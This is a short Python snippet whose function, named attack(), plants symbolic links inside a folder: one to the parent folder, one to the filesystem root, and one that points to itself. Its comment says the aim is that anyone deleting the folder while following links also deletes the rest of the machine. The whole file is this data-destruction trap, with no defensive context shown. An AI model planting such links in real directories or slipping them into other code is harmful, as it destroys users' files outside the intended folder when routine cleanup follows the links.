# Links to the folder above and to the whole machine. Would gain: who removes its folder and follows them removes the rest too.
import os


def attack():
    os.symlink("..", "up")
    os.symlink("/", "all")
    os.symlink("loop", "loop")
